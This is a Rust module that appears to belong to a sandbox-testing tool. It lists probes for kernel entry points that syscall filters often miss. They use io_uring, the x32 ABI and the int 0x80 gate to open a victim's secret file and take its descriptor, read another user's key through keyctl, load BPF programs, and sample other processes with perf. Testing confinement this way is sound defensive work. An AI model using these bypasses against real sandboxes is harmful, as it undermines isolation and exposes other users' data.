//! System calls that reach far into the kernel, and entries that filters forget.

use crate::attack::{Attempt, Refused, Stop, blocked, got, if_so};
use crate::needs::{BPF, IA32, IO_URING, IOPORTS, KEYS, LDT, PERF, USERFAULTFD, VICTIM, X32, path};
use crate::raw::{self, Arg};
use crate::tools::{NO_FD, c, is_victim, map, open, read_file, steal_fd, thrown_away};
use crate::{attacks, sys};

mod ring;

/// Above every number of the x32 ABI.
const X32_BIT: libc::c_long = 0x4000_0000;

attacks! { Calls:
    "bpf-map" [BPF] "keeps memory in the kernel as a BPF map" => |_| {
        let array = [2_u32, 4, 8, 1, 0, 0, 0, 0, 0, 0, 0, 0];
        let fd = bpf(0, &array)?;
        got(format!("made a map (descriptor {fd})"))
    };
    "bpf-filter" [BPF] "runs a program of its own in the kernel" => |_| load_program(1);
    "bpf-kprobe" [BPF] "runs a program of its own wherever the kernel goes" => |_| load_program(2);
    "bpf-list" [BPF] "finds the programs that others run in the kernel" => |_| {
        const GET_NEXT_ID: u32 = 11;
        let ids = [0_u32; 12];
        crate::attack::past_the_guard(bpf(GET_NEXT_ID, &ids), &[libc::ENOENT])
    };
    "perf-self" [PERF] "measures the processor, for attacks through its caches" => |_| perf(0, -1);
    "perf-system" [PERF] "samples what all processes and the kernel do" => |_| perf(-1, 0);
    "perf-victim" [PERF, VICTIM] "samples what another service does" => |v| {
        is_victim(v)?;
        perf(v.pid, -1)
    };
    "userfaultfd" [USERFAULTFD] "halts the kernel in the middle of a copy" => |_| userfault(0);
    "userfaultfd-user" [USERFAULTFD] "handles its own page faults" => |_| userfault(1);
    "userfaultfd-device" [path("/dev/userfaultfd")] "gets a userfaultfd past filters of the call" => |_| {
        const USERFAULTFD_IOC_NEW: u32 = 0xaa00;
        let device = open("/dev/userfaultfd", libc::O_RDWR)?;
        handshake(sys!(SYS_ioctl, device, USERFAULTFD_IOC_NEW, 0)?)
    };
    "io-uring" [IO_URING] "has the kernel do calls that no filter sees" => |_| {
        let ring = ring::Ring::new()?;
        let answer = ring.submit(&ring::Entry { operation: ring::NOP, ..ring::Entry::default() })?;
        if_so(answer == 0, "the ring did a call", "the ring refused")
    };
    "io-uring-open" [IO_URING, VICTIM] "opens a file by a ring instead of a call" => |v| {
        let name = c(&v.file("secret"));
        let ring = ring::Ring::new()?;
        let entry = ring::Entry {
            operation: ring::OPENAT,
            fd: libc::AT_FDCWD,
            address: (&name).arg(),
            ..ring::Entry::default()
        };
        match usize::try_from(ring.submit(&entry)?) {
            Ok(fd) => steal_fd(v, fd),
            Err(_) => blocked("the ring may not open it"),
        }
    };
    "io-uring-socket" [IO_URING] "gets a socket by a ring instead of a call" => |_| {
        let ring = ring::Ring::new()?;
        let (operation, fd) = (ring::SOCKET, libc::AF_INET);
        let entry = ring::Entry { operation, fd, offset: 1, ..ring::Entry::default() };
        if_so(ring.submit(&entry)? >= 0, "the ring made a socket", "the ring refused")
    };
    "read-key" [KEYS, VICTIM] "reads a key of another user out of the kernel" => |v| {
        const READ: i32 = 11;
        let mut key = [0_u8; 64];
        sys!(SYS_keyctl, READ, v.key, &mut key, key.len(), 0)?;
        if_so(v.is_in(&key), "read the secret", "that is another key")
    };
    "list-keys" [KEYS, VICTIM] "sees the keys of other users" => |v| {
        let text = read_file("/proc/keys")?;
        let wanted = format!("{:08x}", v.key);
        let seen = text.windows(8).any(|w| w == wanted.as_bytes());
        if_so(seen, "saw the victim's", "only its own")
    };
    "leave-key" [KEYS] "keeps data in the kernel for after its end" => |_| {
        const UNLINK: i32 = 9;
        const USER_KEYRING: i32 = -4;
        let key = sys!(SYS_add_key, c"user", c"attack", b"left", 4, USER_KEYRING)?;
        let _ = sys!(SYS_keyctl, UNLINK, key, USER_KEYRING, 0, 0);
        got("the key was there")
    };
    "join-keyring" [KEYS] "gets a new ring of keys" => |_| thrown_away(|| {
        const JOIN: i32 = 1;
        let ring = sys!(SYS_keyctl, JOIN, 0, 0, 0, 0)?;
        got(format!("it is number {ring}"))
    });
    "search-keyring" [KEYS] "looks into the ring of keys it was started with" => |_| {
        const DESCRIBE: i32 = 6;
        const SESSION: i32 = -3;
        let mut text = [0_u8; 128];
        let length = sys!(SYS_keyctl, DESCRIBE, SESSION, &mut text, text.len(), 0)?;
        let text = String::from_utf8_lossy(text.get(..length).unwrap_or_default()).into_owned();
        got(format!("it is {}", text.trim_end_matches('\0')))
    };
    "x32-call" [X32] "enters the kernel by the x32 numbers" => |_| {
        let pid = raw::call(libc::SYS_getpid | X32_BIT, &[]);
        if_so(pid.ok() == sys!(SYS_getpid).ok(), "the kernel answered", "the kernel did not answer")
    };
    "x32-open" [X32, VICTIM] "opens a file by the x32 numbers" => |v| {
        let words = [libc::AT_FDCWD.arg(), (&c(&v.file("secret"))).arg(), 0, 0];
        let fd = raw::call(libc::SYS_openat | X32_BIT, &words)
            .map_err(|errno| Refused { call: "x32 openat", errno })?;
        steal_fd(v, fd)
    };
    "int80-call" [IA32] "enters the kernel by the gate of 32-bit programs" => |_| {
        let pid = raw::call_32(20, [0; 3]);
        if_so(sys!(SYS_getpid) == Ok(pid.arg()), "the kernel answered", "the kernel did not answer")
    };
    "int80-open" [IA32, VICTIM] "opens a file by the gate of 32-bit programs" => |v| {
        let at = low_text(&v.file("secret"))?;
        match usize::try_from(raw::call_32(5, [at, 0, 0])) {
            Ok(fd) => steal_fd(v, fd),
            Err(_) => blocked("open by int 0x80 was refused"),
        }
    };
    "int80-socket" [IA32] "gets a raw socket by the gate of 32-bit programs" => |_| {
        let fd = raw::call_32(359, [2, 3, 1]);
        if_so(fd >= 0, "it has a raw socket", format!("error {}", -fd))
    };
    "int80-unshare" [IA32] "gets namespaces by the gate of 32-bit programs" => |_| thrown_away(|| {
        let answer = raw::call_32(310, [libc::CLONE_NEWUSER.cast_unsigned(), 0, 0]);
        if_so(answer == 0, "it is in a new one", format!("error {}", -answer))
    });
    "change-segments" [LDT] "gets segments of its own, which the kernel has to guard" => |_| {
        const MODIFY_LDT: libc::c_long = 154;
        let entry = [0_u32, 0, 0xfffff, 0x51];
        let mut table = [0_u8; 64];
        let ldt = |words: &[usize]| {
            raw::call(MODIFY_LDT, words).map_err(|errno| Refused { call: "modify_ldt", errno })
        };
        ldt(&[0x11, (&entry).arg(), 16])?;
        let length = ldt(&[0, (&mut table).arg(), 64])?;
        if_so(length > 0, "it has a segment", "it has none")
    };
    "io-ports" [IOPORTS] "talks to devices past the kernel" => |_| {
        const IOPERM: libc::c_long = 173;
        raw::call(IOPERM, &[0x80, 1, 1]).map_err(|errno| Refused { call: "ioperm", errno })?;
        got("it has port 0x80")
    };
}

fn bpf(command: u32, attributes: &[u32; 12]) -> Result<usize, Refused> {
    sys!(SYS_bpf, command, attributes, 48)
}

/// A program that does nothing, of some type.
fn load_program(kind: u32) -> Attempt {
    const LOAD: u32 = 5;
    let code = [0xb7_u64, 0x95];
    let halves = |word: usize| -> [u32; 2] {
        let low = u32::try_from(word & 0xffff_ffff).unwrap_or(0);
        [low, u32::try_from(word >> 32).unwrap_or(0)]
    };
    let ([a, b], [d, e]) = (halves((&code).arg()), halves(c"GPL".arg()));
    let fd = bpf(LOAD, &[kind, 2, a, b, d, e, 0, 0, 0, 0, 0, 0])?;
    got(format!("the kernel has the program (descriptor {fd})"))
}

fn perf(pid: i32, cpu: i32) -> Attempt {
    const SOFTWARE: u64 = 1;
    const SIZE: u64 = 128;
    let mut attributes = [0_u64; 16];
    attributes[0] = SOFTWARE | SIZE << 32;
    let fd = sys!(SYS_perf_event_open, &attributes, pid, cpu, -1, 0)?;
    let mut count = [0_u64];
    sys!(SYS_read, fd, &mut count, 8)?;
    got(format!("counted {}", count[0]))
}

fn userfault(flags: i32) -> Attempt {
    handshake(sys!(SYS_userfaultfd, libc::O_CLOEXEC | flags)?)
}

fn handshake(fd: usize) -> Attempt {
    const UFFDIO_API: u32 = 0xc018_aa3f;
    let mut api = [0xaa_u64, 0, 0];
    sys!(SYS_ioctl, fd, UFFDIO_API, &mut api)?;
    if_so(api[2] != 0, "it handles page faults", "the kernel offers nothing")
}

/// A text where 32-bit calls can point at.
fn low_text(text: &str) -> Result<u32, Stop> {
    const BELOW_2_GIB: i32 = 0x40;
    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | BELOW_2_GIB;
    let at = map(4096, libc::PROT_READ | libc::PROT_WRITE, flags, NO_FD)?;
    raw::store(at, c(text).as_bytes_with_nul());
    u32::try_from(at).map_err(|_| Stop::Absent("there is no low memory".to_owned()))
}
